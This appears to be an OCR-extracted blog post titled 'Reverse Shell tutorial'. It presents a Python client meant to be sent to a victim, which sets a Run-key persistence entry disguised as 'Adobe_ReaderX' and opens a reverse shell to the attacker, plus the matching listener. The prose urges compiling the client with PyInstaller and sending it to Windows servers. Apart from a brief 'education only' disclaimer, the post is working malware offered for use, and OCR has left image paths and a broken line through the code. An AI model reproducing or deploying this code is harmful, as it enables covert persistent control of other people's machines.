Reverse Shell tutorial

Hey Guys, Finlay Here Today I present you a reverse shell script I've build during some boredom. I have the proof that it works here: View the Proof!Here is the "" (which you send to the victim): # Please support me and my development by making a donation to: # BTC: 1Gay22nGSs5tXArmABtSHGjKQTerMpptFV import sys, base64, os, socket, subprocess from _winreg import * def autorun(tempdir, fileName, run): # Copy executable to %TEMP%: os.system('copy %s %s'%(fileName, tempdir)) # Queries Windows registry for the autorun key value # Stores the key values in runkey array key = OpenKey(HKEY_LOCAL_MACHINE, run) runkey =[] try: i = 0 while True: subkey = EnumValue(key, i) runkey.append(subkey[0]) i += 1 except WindowsError: pass # If the autorun key "Adobe ReaderX" isn't set this will set the key: if'Adobe ReaderX' not in runkey: try: key= OpenKey(HKEY_LOCAL_MACHINE, run,0,KEY_ALL_ACCESS) SetValueEx(key ,'Adobe_ReaderX',0,REG_SZ,r"%TEMP%\mw.exe") key.Close() except WindowsError: pass def shell(): #Base64 encoded reverse shell s = socket.socket(socket.AF_INET, socket.SOCK_STREAM) s.connect(('', int(1998))) s.send('[*] Connection Established!') while 1: data = s.recv(1024) if data == "quit": break proc = subprocess.Popen(data, shell=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE, stdin=subprocess.PIPE) stdout_value = + encoded = base64.b64encode(stdout_value) s.send(encoded) #s.send(stdout_value) s.close() def main(): tempdir = '%TEMP%' fileName = sys.argv[0] run = "Software\Microsoft\Windows\CurrentVersion\Run" autorun(tempdir, fileName, run) shell() if __name__ == "__main__": main()Please note that you need to have to chance the IP and port to suit your scenario. Also here is the (which should be running on your box!) import socket s= socket.socket(socket.AF_INET, socket.SOCK_STREAM) s.bind(("", 1998)) s.listen(2) print "Listening on port 1998... " (client, (ip, port)) = s.accept() print " Received connection from : ", ip while True:command = raw_input('~$ ') encode = bytearray(command) for i in range(len(encode)): encode[i] ^=0x41 client.send(encode) en_data=client.recv(2048) decode= bytearray(en_data) for i in range(len(decode)): decode[i] ^=0x41 print decode client.close() s.close() so these scripts are build fairlyeasily, and probably not veryeffective. build when you build them to an EXE(PyInstaller anyone?), send them to a windows server, and boom, you're a god now!(sorta...)Please use these scripts for education only! I'm not going to help you if you getin trouble!


Leave a comment

Pleaselogin to leave comment!